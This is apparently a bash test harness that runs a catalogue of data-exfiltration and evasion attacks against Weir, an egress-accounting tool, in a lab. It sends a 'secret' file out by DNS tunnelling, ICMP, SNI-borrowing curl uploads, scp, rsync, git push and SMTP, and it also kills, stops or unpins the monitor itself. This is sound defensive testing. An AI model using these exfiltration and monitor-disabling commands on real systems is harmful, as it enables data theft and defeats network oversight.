# The attacks of make evasion: `attack ID FAMILIES FUNCTION WHAT`. A function sends a MiB or as much as it
# can to $to, as $person. N and A are the numbers of docs/limits.md; W are ways to hand bytes to the kernel.
# shellcheck shell=bash disable=SC2154

in_url() { if [[ $family == 4 ]]; then echo "$to"; else echo "[$to]"; fi; }
traffic() { by "$TRAFFIC" --to "$to" --port $PORT --bytes 1048576 --ms "$way_ms" "$@"; }
tcp_address() { if [[ $family == 4 ]]; then echo "TCP4:$to:$PORT"; else echo "TCP6:[$to]:$PORT"; fi; }
a_megabyte() { head -c 1048576 /dev/zero; }

# ---- names, protocols, devices ----------------------------------------------------------------
attack N1 "4 6" names_in_questions "data in the names of DNS questions"
names_in_questions() { by /usr/bin/python3 "$LAB/ways.py" names "$([[ $family == 4 ]] && echo "$LAB_RESOLVER" || echo "$LAB_RESOLVER6")" 53; }

attack N2.1 "4 6" names_in_tls "the same over TLS, to one's own resolver"
names_in_tls() { by /usr/bin/python3 "$LAB/ways.py" names_in_tls "$to" 853; }
attack N2.2 "4 6" names_in_https "the same over HTTPS, to one's own resolver"
names_in_https() { by /usr/bin/python3 "$LAB/ways.py" names_in_https "$to" 443; }

attack N3 "4 6" echo_requests "ICMP echo with data (root)"
echo_requests() { by_capable /usr/bin/python3 "$LAB/ways.py" icmp "$to"; }

attack N4 "4 6" datagrams_443 "datagrams to port 443, as QUIC"
datagrams_443() { by /usr/bin/python3 "$LAB/ways.py" udp "$to" 443; }

attack N5.1 "4 6" no_name "an upload over TLS without a name (curl)"
no_name() { by curl -skT "$LAB/secret" --max-time 4 "https://$(in_url)/"; }
attack N5.2 "4 6" borrowed_name "an upload over TLS with a name that is not the certificate's (curl)"
borrowed_name() { by curl -skT "$LAB/secret" --max-time 4 --connect-to "::$(in_url):443" https://www.debian.org/; }

attack N7.1 "4" mapped_stream "a stream to the IPv4-mapped address"
mapped_stream() { by /usr/bin/python3 "$LAB/ways.py" v4_mapped "$to"; }
attack N7.2 "4" mapped_datagrams "datagrams to the IPv4-mapped address"
mapped_datagrams() { by /usr/bin/python3 "$LAB/ways.py" v4_mapped_udp "$to"; }
attack N7.3 "4 6" own_tunnel "a tunnel device of one's own (root)"
own_tunnel() { by_root /usr/bin/python3 "$LAB/ways.py" tunnel "$to"; }

attack N8.1 "4 6" own_namespace "a network namespace behind the desk, with address translation (root)"
own_namespace() { namespace_up; LAB_NS_desk=$LAB_NS_behind by "$TRAFFIC" --to "$to" --port $PORT --bytes 1048576 --ms 3000; }
attack N8.2 "4 6" forwarded "the same from a program that no hook sees, as a virtual machine"
forwarded() {
  if under_weir; then fresh_accounts; fi # all that is forwarded has one account
  namespace_up
  lab_net behind timeout -k 1 $attack_s "$TRAFFIC" --to "$to" --port $PORT --bytes 1048576 --ms 3000
}

attack N9.1 "4 6" raw_packets "whole IP packets by a raw socket (root)"
raw_packets() { by_capable /usr/bin/python3 "$LAB/ways.py" raw "$to"; }
attack N9.2 "4 6" unknown_protocol "a protocol number nobody uses (root)"
unknown_protocol() { by_capable /usr/bin/python3 "$LAB/ways.py" other_protocol "$to"; }
attack N9.3 "4 6" frames "frames by a packet socket (root)"
frames() { warm_neighbour; by_capable /usr/bin/python3 "$LAB/ways.py" frames "$to"; }
attack N9.4 "4 6" frames_past_queue "frames past the queueing discipline (root)"
frames_past_queue() { warm_neighbour; by_capable /usr/bin/python3 "$LAB/ways.py" frames_past_queue "$to"; }
attack N9.5 "4 6" xdp_frames "frames by AF_XDP, to the driver itself (root)"
xdp_frames() { warm_neighbour; by_capable /usr/bin/python3 "$LAB/ways.py" xdp_frames "$to"; }
attack N9.6 "4 6" xdp_ring_from_before "the same by a ring that no hook saw made, as one from before Weir (root)"
xdp_ring_from_before() { # by a process in no cgroup of the desk's
  local before
  before=$(unattributed)
  warm_neighbour
  lab_net desk timeout -k 1 $attack_s /usr/bin/python3 "$LAB/ways.py" xdp_frames "$to"
  if under_weir && ! lab_wait_for 10 is_unattributed $((before + 1000000)); then echo "unattributed: $before, then $(unattributed)" >"$LAB/weir/$1.fault"; fi
}
unattributed() { "$WEIR" status --state "$LAB/state" --format json 2>/dev/null | jq '.wire.bytesUnattributed // 0 | tonumber' | grep . || echo 0; }
is_unattributed() { (($(unattributed) >= $1)); }

attack N9.7 "4 6" frames_from_before "frames past the queueing discipline by a packet socket that was so before Weir (root)"
frames_from_before_before() { by_capable env "GO=$LAB/go-$person" /usr/bin/python3 "$LAB/ways.py" frames_from_before "$to"; }
frames_from_before() { warm_neighbour; let_go; }

attack N11.1 "4 6" by_scp "scp to a server of one's own"
by_scp() {
  install -m 400 -o "$person" "$LAB/etc/key" "$LAB/key-$person"
  echo "p$person:x:$person:$person::/tmp:/bin/sh" >>"$LAB/etc/passwd" # ssh asks who it is
  by scp -O -P 2222 -i "$LAB/key-$person" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
    "$LAB/secret" "inbox@$(in_url):scp"
}
attack N11.2 "4 6" by_rsync "rsync to a server of one's own"
by_rsync() { by rsync --timeout=4 "$LAB/secret" "rsync://$(in_url)/inbox/$person-${weir_pid:-0}"; }
attack N11.3 "4 6" by_push "git push to a server of one's own"
by_push() {
  local repository=$LAB/push-$person-${weir_pid:-0}
  install -d -o "$person" "$repository"
  by git -C "$repository" -c init.defaultBranch=main init -q
  by cp "$LAB/secret" "$repository/"
  by git -C "$repository" add secret
  by git -C "$repository" -c user.name=x -c user.email=x@example.org commit -qm "$person" # another commit, or it is there already
  by git -C "$repository" push -q "git://$(in_url)/inbox.git" "HEAD:refs/heads/$person-${weir_pid:-0}"
}
attack N11.4 "4 6" by_mail "a mail with an attachment, straight to a server of one's own"
by_mail() { by curl -sT "$LAB/secret.txt" --max-time 4 --mail-from a@example.org --mail-rcpt b@example.org "smtp://$(in_url):2525"; }

attack N14 "4 6" drip "one connection that grows in small writes"
drip() { by /usr/bin/python3 "$LAB/ways.py" drip "$to"; }

attack N19 "4 6" helper "50 programs started by a helper that ran before"
helper() {
  by socat "ABSTRACT-LISTEN:weir-helper-$person,fork" "SYSTEM:$TRAFFIC --to \"${to//:/\\:}\" --port $PORT --bytes 65536 --ms 1000" &
  sleep 0.5
  local i
  for i in {1..50}; do by socat -u "ABSTRACT-CONNECT:weir-helper-$person" - & done
  sleep 3
}

attack N20.1 "4 6" own_relay "a relay on loopback, one's own"
own_relay() { by socat TCP4-LISTEN:$person,bind=127.0.0.1,reuseaddr,fork "$(tcp_address)" & through_relay; }
attack N20.2 "4 6" others_relay "a relay on loopback, another person's"
others_relay() { by_colleague socat TCP4-LISTEN:$person,bind=127.0.0.1,reuseaddr,fork "$(tcp_address)" & through_relay; }
through_relay() {
  lab_wait_for 5 lab_net desk socat -u /dev/null TCP4:127.0.0.1:$person
  a_megabyte | by socat -u - TCP4:127.0.0.1:$person
  sleep 1
}

# ---- ways to hand bytes to the kernel ---------------------------------------------------------
attack W1 "4 6" flows "100 connections at once"
flows() { by "$TRAFFIC" --to "$to" --port $PORT --shape flows --count 100 --bytes 65536 --ms 3000; }
attack W2 "4 6" forks "60 processes"
forks() { by "$TRAFFIC" --to "$to" --port $PORT --shape forks --count 60 --bytes 65536 --ms 3000; }
attack W3 "4 6" fresh_sockets "a new socket for each datagram"
fresh_sockets() { by /usr/bin/python3 "$LAB/ways.py" udp_many "$to"; }
attack W4 "4 6" by_sendfile "sendfile"
by_sendfile() { traffic --shape way -- sendfile; }
attack W5 "4 6" by_splice "splice"
by_splice() { traffic --shape way -- splice; }
attack W6 "4 6" by_zerocopy "without a copy (MSG_ZEROCOPY)"
by_zerocopy() { traffic --shape way -- zerocopy; }
attack W7 "4 6" by_ring "io_uring"
by_ring() { traffic --shape way -- ring; }
attack W7.2 "4 6" by_polled_ring "io_uring whose requests a thread of the kernel takes (SQPOLL)"
by_polled_ring() { traffic --shape way -- ring_polled; }
attack W8 "4" by_repair "a connection put together by hand (TCP_REPAIR, root)"
by_repair() { by_root "$TRAFFIC" --to "$to" --port $PORT --ms "$way_ms" --shape way -- repair; }
attack W9 "4 6" multipath "MPTCP"
multipath() { traffic --multipath; }
attack W10 "4 6" passed "a connected socket that is handed to another process"
passed() { by /usr/bin/python3 "$LAB/ways.py" passed "$to"; }

attack W13 "4 6" by_cork "corked datagrams whose socket has no port any more when they leave"
by_cork() { by /usr/bin/python3 "$LAB/ways.py" corked "$to"; }

attack W14 "4 6" with_the_syn "bytes with a SYN (TCP Fast Open), connection after connection"
with_the_syn() { by "$TRAFFIC" --to "$to" --port $PORT --ms 3000 --shape way -- fast_open; }
attack W15 "4 6" stream_from_before "a connection from before Weir"
stream_from_before_before() { by env "GO=$LAB/go-$person" /usr/bin/python3 "$LAB/ways.py" stream_from_before "$to" $EARLY_PORT; }
stream_from_before() { let_go; }

# ---- against Weir itself ------------------------------------------------------------------------
attack A1 "4 6" killed "guard, engine and weir run killed with -9 in the middle; then started again (root)"
killed() {
  by "$TRAFFIC" --to "$to" --port $PORT --bytes 32768 --ms 500
  if under_weir; then harm -9 && kill -9 "$weir_pid"; fi
  by "$TRAFFIC" --to "$to" --port $PORT --shape flows --count 20 --bytes 65536 --ms 2000
  if under_weir; then start_weir; fi
  by "$TRAFFIC" --to "$to" --port $PORT --shape flows --count 20 --bytes 65536 --ms 1000
}
attack A2 "4 6" stopped "guard, engine and weir run stopped (root)"
stopped() {
  if under_weir; then harm -STOP; kill -STOP "$weir_pid"; fi
  by "$TRAFFIC" --to "$to" --port $PORT --shape flows --count 20 --bytes 65536 --ms 2000
  if under_weir; then kill -CONT "$weir_pid"; harm -CONT; fi
}
attack A4.1 "4 6" unpinned "the pins removed, Weir alive (root)"
unpinned() {
  if under_weir; then rm -rf "$LAB"/bpf/* 2>/dev/null; fi
  by "$TRAFFIC" --to "$to" --port $PORT --shape flows --count 20 --bytes 65536 --ms 2000
  if under_weir; then lab_wait_for 20 pinned; fi # or nobody can read the account
}
pinned() { [[ $(lab_accounts 0) != null ]]; }
attack A4.2 "4 6" unpinned_and_killed "the pins removed and Weir killed (root)"
unpinned_and_killed() {
  if under_weir; then harm -STOP; rm -rf "$LAB"/bpf/* 2>/dev/null; harm -9; kill -9 "$weir_pid"; fi # or they may be put back
  by "$TRAFFIC" --to "$to" --port $PORT --shape flows --count 20 --bytes 65536 --ms 2000
  if under_weir; then start_weir; fi
}
attack A4.3 "4 6" detached "the program that charges detached from its place, Weir alive (root)"
detached() {
  local before
  before=$(reported)
  if under_weir; then bpftool link detach pinned "$(echo "$LAB"/bpf/weir/*/links/weir_egress)"; fi
  by "$TRAFFIC" --to "$to" --port $PORT --shape flows --count 20 --bytes 65536 --ms 2000
  if under_weir; then lab_wait_for 5 reported_more_than "$before"; fi
}
reported_more_than() { (($(reported) > $1)); }
attack A10 "4 6" flooded "while the engine is flooded with events: programs and questions on loopback"
flooded() {
  local i
  for i in 1 2; do by /usr/bin/python3 "$LAB/ways.py" events 127.0.0.1 53 & done
  sleep 1
  by "$TRAFFIC" --to "$to" --port $PORT --shape flows --count 20 --bytes 65536 --ms 2000
  wait_for_attack
  if under_weir && ! lab_wait_for 10 is_reported; then echo "nothing was reported of person $person" >"$LAB/weir/$1.fault"; fi
}
is_reported() { grep -q "\"uid\":$person\b" "$LAB/state/reports.jsonl"; }
attack A12.1 "4 6" many_processes "1,500 processes at once, each with a connection"
many_processes() { by "$TRAFFIC" --to "$to" --port $PORT --shape forks --count 1500 --bytes 65536 --ms 3000; }
attack A12.2 "4 6" many_sockets "as many sockets as a process may have, then each is used"
many_sockets() { by prlimit --nofile=20000:20000 /usr/bin/python3 "$LAB/ways.py" many_sockets "$to"; }
attack A13 "4 6" same_number "programs with the process id of another person's program that ended (root)"
same_number() {
  by_root /usr/bin/python3 "$LAB/ways.py" same_number "$to" $PORT "$(by_colleague sh -c 'echo $$')"
}
fresh_accounts() {
  lab_stop "$weir_pid"
  "$WEIR" release --pin "$LAB/bpf" >/dev/null
  rm -rf "$LAB/state"
  start_weir
  account=$(lab_accounts 0) # what is charged from here on is this attack's
}
under_weir() { [[ -n ${weir_pid:-} ]]; }
harm() {
  local pid
  for pid in $(lab_descendants "$weir_pid"); do kill "$1" "$pid" 2>/dev/null; done
}

# ---- what they need ------------------------------------------------------------------------------
wait_for_attack() { while pgrep -U "$person" >/dev/null; do sleep 0.1; done; }
namespace_up() {
  local nat=ip net=10.50.0. bits=24 all=0.0.0.0/0 forward=ipv4/ip_forward nodad=
  if [[ $family == 6 ]]; then nat=ip6 net=2001:db8:50:: bits=64 all=::/0 forward=ipv6/conf/all/forwarding nodad=nodad; fi
  lab_holder behind
  lab_net desk ip link add weir-ns type veth peer name eth0 netns "$LAB_NS_behind"
  lab_net desk ip addr add ${net}1/$bits dev weir-ns $nodad
  lab_net desk ip link set weir-ns up
  lab_net desk sh -c "echo 1 >/proc/sys/net/$forward"
  lab_net desk nft "add table $nat weir_lab_nat; add chain $nat weir_lab_nat out {type nat hook postrouting priority 100;}; add rule $nat weir_lab_nat out oifname eth0 masquerade"
  lab_net behind sh -c "ip link set lo up; ip addr add ${net}2/$bits dev eth0 $nodad; ip link set eth0 up; ip route add $all via ${net}1"
}
warm_neighbour() { lab_net desk socat -u /dev/null "$(tcp_address)"; }

cleanup_attack() {
  [[ -n ${LAB_NS_behind:-} ]] && kill -9 "$LAB_NS_behind" 2>/dev/null
  LAB_NS_behind=
  lab_net desk nft delete table ip weir_lab_nat 2>/dev/null
  lab_net desk nft delete table ip6 weir_lab_nat 2>/dev/null
  lab_net desk sh -c 'echo 0 >/proc/sys/net/ipv6/conf/all/forwarding'
  lab_net desk ip link del weir-ns 2>/dev/null
  lab_net desk ss -K dport = $PORT >/dev/null 2>&1 # what a killed sender left in the kernel
  return 0
}
